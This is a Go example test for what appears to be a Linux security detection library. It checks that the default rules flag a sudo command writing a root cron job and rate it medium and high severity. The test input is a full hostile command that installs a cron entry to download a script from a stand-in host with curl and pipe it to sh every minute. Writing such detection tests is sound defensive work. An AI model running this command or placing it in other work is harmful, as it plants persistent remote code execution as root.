package cmdline_test

import (
	"fmt"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

func Example() {
	cmd := cmdline.FromSudo(`/usr/bin/sh -c 'echo \'* * * * * root curl -s http://192.0.2.7/x.sh | sh\' > /etc/cron.d/refresh'`)
	for _, h := range cmdline.DefaultRules().Match(cmd) {
		fmt.Println(h.Severity, h.Rule, h.Techniques, h.Target)
	}
	// Output:
	// medium cron-write [T1053.003] /etc/cron.d/refresh
	// high cron-runs-risk [T1053.003 T1105 T1059.004] /etc/cron.d/refresh
}
